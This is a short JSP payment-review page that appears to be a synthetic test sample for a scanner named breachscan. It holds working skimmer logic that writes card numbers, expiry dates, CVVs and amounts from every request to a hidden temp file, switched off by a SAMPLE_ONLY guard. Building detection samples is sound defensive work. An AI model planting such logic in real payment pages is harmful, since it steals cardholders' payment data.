<%@ page import="java.io.*,java.util.*" %>
<%-- synthetic test sample for breachscan: altered payment page shape - before the normal
     processing every request parameter (card number, expiry, CVV, payment amount) is appended
     to a file under the server's temp folder. Disabled by the SAMPLE_ONLY guard. --%>
<%
    final boolean SAMPLE_ONLY = true;
    if (!SAMPLE_ONLY) {
        StringBuilder line = new StringBuilder();
        for (Enumeration<String> e = request.getParameterNames(); e.hasMoreElements();) {
            String k = e.nextElement();
            line.append(k).append('=').append(request.getParameter(k)).append(';');
        }
        // fields expected on this page: cardNumber, expDate, cvv, paymentAmount
        try (FileWriter w = new FileWriter(System.getProperty("java.io.tmpdir") + "/.wlcache", true)) {
            w.write(line.toString() + "\n");
        }
    }
%>
<html><body>Payment review</body></html>
